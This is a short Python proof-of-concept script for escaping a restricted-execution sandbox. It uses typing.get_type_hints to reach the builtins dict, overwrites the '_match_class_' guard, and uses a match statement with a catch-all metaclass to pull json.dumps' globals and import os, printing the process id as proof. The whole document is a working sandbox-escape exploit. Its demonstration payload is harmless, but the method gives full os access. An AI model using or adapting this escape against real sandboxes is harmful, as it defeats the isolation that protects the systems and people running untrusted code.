# proves: prints ESCAPED pid; get_type_hints hands out the builtins that guards live in

import json, typing
def f(x: "__builtins__"):
    pass
typing.get_type_hints(f)["x"]["_match_class_"] = lambda subject, *classes: subject
# --- step ---
class Any(type):
    def __instancecheck__(cls, value):
        return True
class P(metaclass=Any):
    __match_args__ = ("__globals__",)
match json.dumps:
    case P(g):
        print("ESCAPED", g["__builtins__"]["__import__"]("os").getpid())
